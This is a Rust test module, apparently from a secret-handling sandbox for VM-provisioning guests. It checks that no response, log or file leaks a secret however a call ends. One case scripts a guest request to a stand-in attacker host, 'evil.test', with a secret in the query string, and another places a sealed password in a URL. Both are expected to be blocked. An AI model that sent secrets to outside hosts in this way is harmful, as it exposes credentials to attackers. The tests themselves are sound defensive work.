//! Every way in which a call can end, with a secret in every field. No output, file or
//! memory of the guest holds a secret, and each secret arrives where it belongs.

use super::scenario::{OBTAINED, SERVERS, Scenario, Search};
use super::secret_set::seed;
use crate::case::Case;
use crate::world::World;
use rustix::process::Signal;
use serde_json::{Value, json};
use std::collections::BTreeSet;
use std::os::unix::fs::MetadataExt as _;
use std::path::Path;
use tests::{Job, Response, dist};

const CLASS: &str = "secrets";

/// The end of a call, after the guest has used every capability.
pub(super) struct Ending {
    pub(super) name: &'static str,
    mutants: &'static [&'static str],
    /// Replaces keys of the config; `serve` replaces answers of servers.
    config: Value,
    serve: Value,
    /// `BASE` stands for the number of the first of these operations.
    operations: Value,
    /// Texts of the error; none for a success.
    says: &'static [&'static str],
    /// A line of the log, after which the call gets SIGTERM.
    signal: Option<&'static str>,
    search: Search,
}

impl Default for Ending {
    fn default() -> Self {
        Ending {
            name: "",
            mutants: &[],
            config: json!({}),
            serve: json!({}),
            operations: json!([]),
            says: &[],
            signal: None,
            search: Search::Plain,
        }
    }
}

pub(super) fn cases() -> Vec<Case> {
    let endings = endings().into_iter().enumerate().map(|(turn, ending)| {
        Case::new(CLASS, ending.name, ending.mutants, move |world| {
            ending.attempt(world, turn).map_err(|why| format!("ATTACK_SEED={}: {why}", seed()))
        })
        .may_contact(SERVERS)
    });
    endings.collect()
}

pub(super) fn endings() -> Vec<Ending> {
    let get = |url: &str| json!({"op": "http", "url": url});
    let fail = json!({"op": "error", "kind": "cloud", "message": "{{BASE|json}}"});
    vec![
        Ending {
            name: "secrets in every field, then a success",
            mutants: &["sealed-properties", "sealed-env", "sealed-agent"],
            operations: json!([{"op": "result", "json": "vm-2"}]),
            search: Search::All,
            ..Ending::default()
        },
        Ending {
            name: "secrets in every field, then an error that quotes all that the guest saw",
            operations: json!([{"op": "error", "kind": "cloud", "message": "{{0.ok|json}} {{5.ok|base64}} {{6.ok|json}} {{7.ok|json}} {{18.ok|json}}"}]),
            says: &["<sealed:auth.password>"],
            ..Ending::default()
        },
        Ending {
            name: "secrets in every field, then a denial",
            operations: json!([get("https://evil.test/?q={{5.ok}}"), fail]),
            says: &["no grant names the host evil.test"],
            ..Ending::default()
        },
        Ending {
            name: "secrets in every field, then a seal in the wrong place",
            operations: json!([get("https://open.iaas.test/?q={{props.auth.password}}"), fail]),
            says: &["the sealed value `auth.password` is in the URL"],
            ..Ending::default()
        },
        Ending {
            name: "secrets in every field, then a trap",
            operations: json!([{"op": "trap"}]),
            says: &["guest: trapped in create_vm"],
            ..Ending::default()
        },
        Ending {
            name: "secrets in every field, then a panic that quotes all that the guest saw",
            operations: json!([{"op": "panic", "message": "{{0.ok|json}} {{7.ok|json}}"}]),
            says: &["guest: "],
            ..Ending::default()
        },
        Ending {
            name: "secrets in every field, then an exit",
            operations: json!([{"op": "exit", "code": 0}]),
            says: &["called exit"],
            ..Ending::default()
        },
        Ending {
            name: "secrets in every field, then endless recursion",
            operations: json!([{"op": "recurse", "frames": "small"}]),
            says: &["`stack_kib`"],
            ..Ending::default()
        },
        Ending {
            name: "secrets in every field, then a timeout",
            config: json!({"limits": {"wall_seconds": 6, "cleanup_seconds": 5}}),
            search: Search::Nothing,
            operations: json!([{"op": "clock.sleep", "ms": 60_000, "on_cancel": [{"op": "log", "message": "{{0.ok|json}}"}, {"op": "http", "method": "POST", "url": "https://open.iaas.test/undo"}]}]),
            says: &["`wall_seconds`", "the guest cleaned up in time"],
            ..Ending::default()
        },
        Ending {
            name: "secrets in every field, then a timeout of a guest that cannot be cancelled",
            config: json!({"limits": {"wall_seconds": 6, "cleanup_seconds": 1}}),
            search: Search::Nothing,
            operations: json!([{"op": "wasi.sleep", "ms": 60_000}]),
            says: &["`wall_seconds`", "did not end within"],
            ..Ending::default()
        },
        Ending {
            name: "secrets in every field, then exhausted CPU time",
            config: json!({"limits": {"cpu_seconds": 2, "cleanup_seconds": 1}}),
            search: Search::Nothing,
            operations: json!([{"op": "loop"}]),
            says: &["`cpu_seconds`"],
            ..Ending::default()
        },
        Ending {
            name: "secrets in every field, then exhausted memory",
            config: json!({"limits": {"memory_mib": 16}}),
            operations: json!([{"op": "grow", "mib": 64}, fail]),
            says: &["`memory_mib`"],
            ..Ending::default()
        },
        Ending {
            name: "secrets in every field, then a malformed answer",
            serve: json!({"open.iaas.test": {"raw": "nonsense"}}),
            operations: json!([get("https://open.iaas.test/"), fail]),
            says: &["protocol"],
            ..Ending::default()
        },
        Ending {
            name: "secrets in every field, then an answer that is cut off",
            serve: json!({"api.iaas.test/v1/cut": {"raw": "HTTP/1.1 200 OK\r\nContent-Length: 100000\r\n\r\nhalf"}}),
            operations: json!([get("https://api.iaas.test/v1/cut"), fail]),
            says: &["truncated"],
            ..Ending::default()
        },
        Ending {
            name: "secrets in every field, then a server that echoes a credential",
            serve: json!({"basic.iaas.test/echo": {"echo": true}}),
            operations: json!([get("https://basic.iaas.test/echo"), fail]),
            says: &["held the credential `basic."],
            ..Ending::default()
        },
        Ending {
            name: "secrets in every field, then servers that echo agent settings and a token",
            serve: json!({"api.iaas.test/v1/echo": {"echo": true}}),
            operations: json!([get("https://api.iaas.test/v1/echo"), get("https://api.iaas.test/v1/echo"), {"op": "result", "json": "vm-2"}]),
            says: &[
                "policy: the response to GET https://api.iaas.test/v1/echo held the credential `token of login main`",
            ],
            ..Ending::default()
        },
        Ending {
            name: "secrets in every field, then a token that is no longer accepted",
            serve: json!({"form.iaas.test/401": {"status": 401, "echo": true}, "oauth.iaas.test": ["as before", {"status": 403, "echo": true}]}),
            operations: json!([get("https://form.iaas.test/401"), fail]),
            says: &["login `form`", "HTTP 403"],
            ..Ending::default()
        },
        Ending {
            name: "secrets in every field, then JSON lines on stderr",
            config: json!({"log": {"level": "debug", "format": "json"}}),
            operations: json!([{"op": "log", "level": "error", "message": "{{0.ok|json}}\n{{7.ok|json}}\u{1b}[2J"}, {"op": "trap"}]),
            says: &["guest: trapped"],
            ..Ending::default()
        },
        Ending {
            name: "secrets in every field, then an HTTP trace with bodies",
            config: json!({"http_trace": "bodies"}),
            operations: json!([{"op": "result", "json": "vm-2"}]),
            search: Search::All,
            ..Ending::default()
        },
        Ending {
            name: "secrets in every field, then SIGTERM from the Director",
            operations: json!([{"op": "log", "message": "waiting"}, {"op": "clock.sleep", "ms": 60_000, "on_cancel": [{"op": "log", "message": "{{0.ok|json}}"}]}]),
            signal: Some("info: waiting"),
            says: &["SIGTERM"],
            ..Ending::default()
        },
        Ending {
            name: "secrets in every field, then a garbage result",
            operations: json!([{"op": "garbage", "kind": "bad-json"}]),
            says: &["guest: "],
            ..Ending::default()
        },
    ]
}

impl Ending {
    /// Returns an ending without an error, after these operations.
    pub(super) fn good(name: &'static str, operations: Value) -> Ending {
        Ending { name, operations, ..Ending::default() }
    }

    /// Returns the job, with servers that are set up, and the script that leads to this ending.
    pub(super) fn prepare(&self, world: &World, turn: usize, search: Search) -> Result<(Scenario, Vec<Value>), String> {
        let mut scenario = Scenario::new(world, turn);
        scenario.search = search;
        overlay(&mut scenario.served, &self.serve);
        scenario.job = std::mem::take(&mut scenario.job).configure(|config| overlay(config, &self.config));
        scenario.set_up(world)?;
        let mut operations = scenario.use_everything();
        let base = operations.len().to_string();
        let more = self.operations.to_string().replace("BASE", &base);
        operations.extend(serde_json::from_str::<Vec<Value>>(&more).map_err(|error| error.to_string())?);
        Ok((scenario, operations))
    }

    /// Returns true if the call ends by itself, so that its operations do not depend on the machine's
    /// speed, and if its log can be read for what the guest observed.
    pub(super) fn is_repeatable(&self) -> bool {
        let waits = !self.config["limits"]["wall_seconds"].is_null();
        self.signal.is_none() && !waits && self.config["log"]["format"].is_null()
    }

    /// Returns true if an answer holds a credential, which ends the call.
    pub(super) fn leaks(&self) -> bool {
        self.says.iter().any(|said| said.contains("held the credential"))
    }

    fn attempt(&self, world: &World, turn: usize) -> Result<(), String> {
        let (scenario, operations) = self.prepare(world, turn, self.search)?;
        let mut call = scenario.create_vm(&operations);
        if let Some(line) = self.signal {
            call = call.signal_at(line, Signal::TERM);
        }
        let response = call.run();
        self.check_error(&response)?;
        expect_no_leak(&scenario, &response)?;
        scenario.check_logged_results(&response.stderr)?;
        // Only the HTTP trace may be redacted, as it shows what the host sent.
        let lines: Vec<&str> = response.stderr.lines().filter(|line| !line.contains(" http_trace trace: ")).collect();
        let shown = format!("{}{}", response.json, lines.join("\n"));
        if shown.contains("<redacted>") {
            return Err(format!("the guest knows a secret, which was redacted: {shown}"));
        }
        // However the call ends, each host has received its secrets before.
        let arrived = scenario.received_secrets(world)?;
        for (host, names) in arrived.iter().filter(|(host, _)| !host.starts_with("api")) {
            expect_same(host, names, &scenario.allowed_at(host))?;
        }
        let api = arrived.get("api.iaas.test").cloned().unwrap_or_default();
        let without_registry = |name: &String| !name.starts_with("registry.");
        expect_same("api", &api, &scenario.allowed_at("api.iaas.test").into_iter().filter(without_registry).collect())?;
        check_slots(&scenario, world)
    }

    fn check_error(&self, response: &Response) -> Result<(), String> {
        let message = response.json["error"]["message"].as_str().unwrap_or_default();
        if self.says.is_empty() != response.json["error"].is_null() {
            return Err(format!("the call ended in another way: {}", response.json));
        }
        match self.says.iter().find(|part| !message.contains(*part)) {
            Some(part) => Err(format!("no `{part}` in {message}")),
            None => Ok(()),
        }
    }
}

/// Fails unless each secret arrived unchanged as the one value of its slot.
fn check_slots(scenario: &Scenario, world: &World) -> Result<(), String> {
    let secret =
        |name: &str| scenario.secrets.all().iter().find(|(known, _)| known == name).map(|(_, secret)| secret.clone());
    for arrived in world.requests() {
        let Some(kind) = arrived.request.target().strip_prefix("/v1/slot/") else { continue };
        let (text, secret) = (arrived.request.text(), secret(&format!("slots.{kind}")).unwrap_or_default());
        let expected = match kind {
            "json" => json!({"data": secret}).to_string(),
            "form" => format!("a=b&data={}", urlencoded(&secret)),
            "xml" => format!("<r><data>{}</data></r>", escaped(&secret)),
            // The host has chosen the boundary.
            _ => {
                let boundary = text.split("\r\n").next().unwrap_or_default();
                let head = "Content-Disposition: form-data; name=\"data\"";
                format!("{boundary}\r\n{head}\r\n\r\n{secret}\r\n{boundary}--\r\n")
            }
        };
        if text != expected {
            return Err(format!("the request with the slot of kind {kind} is {text:?}, expected {expected:?}"));
        }
    }
    Ok(())
}

fn urlencoded(text: &str) -> String {
    let encode = |byte: u8| match byte {
        b' ' => "+".to_owned(),
        byte if byte.is_ascii_alphanumeric() || b"*-._".contains(&byte) => char::from(byte).to_string(),
        byte => format!("%{byte:02X}"),
    };
    text.bytes().map(encode).collect()
}

fn escaped(text: &str) -> String {
    let entities = [('&', "&amp;"), ('<', "&lt;"), ('>', "&gt;"), ('"', "&quot;"), ('\'', "&apos;")];
    entities.iter().fold(text.to_owned(), |text, (c, entity)| text.replace(*c, entity))
}

/// Fails if an output, or a file that the call could have written, holds a secret.
pub(super) fn expect_no_leak(scenario: &Scenario, response: &Response) -> Result<(), String> {
    scenario.secrets.expect_none_in("the response", response.json.to_string().as_bytes())?;
    scenario.secrets.expect_none_in("stderr", response.stderr.as_bytes())?;
    check_files(scenario, &scenario.job)
}

/// Fails if a file that the call could have written holds a secret. A token may be in the file of its login,
/// and temporary keys in that of their credentials, which only this user can read. In the shared cache, only new
/// files are read.
fn check_files(scenario: &Scenario, job: &Job) -> Result<(), String> {
    let changed = |path: &Path| std::fs::metadata(path).and_then(|metadata| metadata.modified()).ok();
    let start = changed(&job.config_file());
    let mut waiting = vec![job.path(""), dist::shared_cache().to_owned()];
    let own: [&Path; 2] = [&job.config_file(), &job.policy_file()];
    while let Some(path) = waiting.pop() {
        if path.is_dir() {
            waiting.extend(std::fs::read_dir(&path).into_iter().flatten().flatten().map(|entry| entry.path()));
        } else if !own.contains(&path.as_path()) && (!path.starts_with(dist::shared_cache()) || changed(&path) >= start)
        {
            let what = |error: std::io::Error| format!("{}: {error}", path.display());
            let (bytes, mode) = (std::fs::read(&path).map_err(what)?, std::fs::metadata(&path).map_err(what)?.mode());
            let mut names = scenario.secrets.names_in(&bytes);
            let name = path.file_name().unwrap_or_default().to_string_lossy().into_owned();
            if name.starts_with("token-") && mode & 0o777 == 0o600 {
                let is_kept = |name: &str| OBTAINED.iter().any(|prefix| name.starts_with(prefix));
                names.retain(|name| !is_kept(name) || name == "machine.metadata");
            }
            if !names.is_empty() {
                return Err(format!("{} holds {names:?}", path.display()));
            }
            scenario.secrets.expect_none_in("the name of a file", name.as_bytes())?;
        }
    }
    Ok(())
}

fn expect_same(host: &str, names: &BTreeSet<String>, expected: &BTreeSet<String>) -> Result<(), String> {
    if names == expected { Ok(()) } else { Err(format!("{host} received {names:?}, expected {expected:?}")) }
}

/// Replaces keys of the target. In a list, `as before` stands for the old value.
pub(super) fn overlay(target: &mut Value, keys: &Value) {
    for (key, value) in keys.as_object().into_iter().flatten() {
        let before = target[key].take();
        let again = |one: &Value| if one == "as before" { before.clone() } else { one.clone() };
        target[key] = value.as_array().map_or_else(|| value.clone(), |list| list.iter().map(again).collect());
    }
}
